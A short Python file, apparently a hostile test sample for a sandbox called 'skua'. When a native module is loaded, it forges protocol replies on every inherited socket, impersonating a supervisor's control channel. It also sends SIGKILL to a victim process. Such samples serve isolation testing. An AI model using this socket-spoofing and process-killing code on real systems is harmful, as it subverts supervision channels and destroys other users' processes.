# harm: signals
"""Answers over a copy of the control socket that process 1 was forked: its group is everybody."""

import os
import signal
import socket
import stat
import struct
import sys

VICTIM = 0  # the net puts a process of the user here

if "skua_native" in sys.modules:
    answer = b'{"ok": true, "pid": 1}'
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                copy = socket.socket(fileno=os.dup(int(name)))
                copy.sendall(struct.pack("<4sHHI", b"SKUA", 1, 1, len(answer)) + answer)
                copy.detach()
        except OSError:
            pass


def attack() -> None:
    os.kill(VICTIM, signal.SIGKILL)
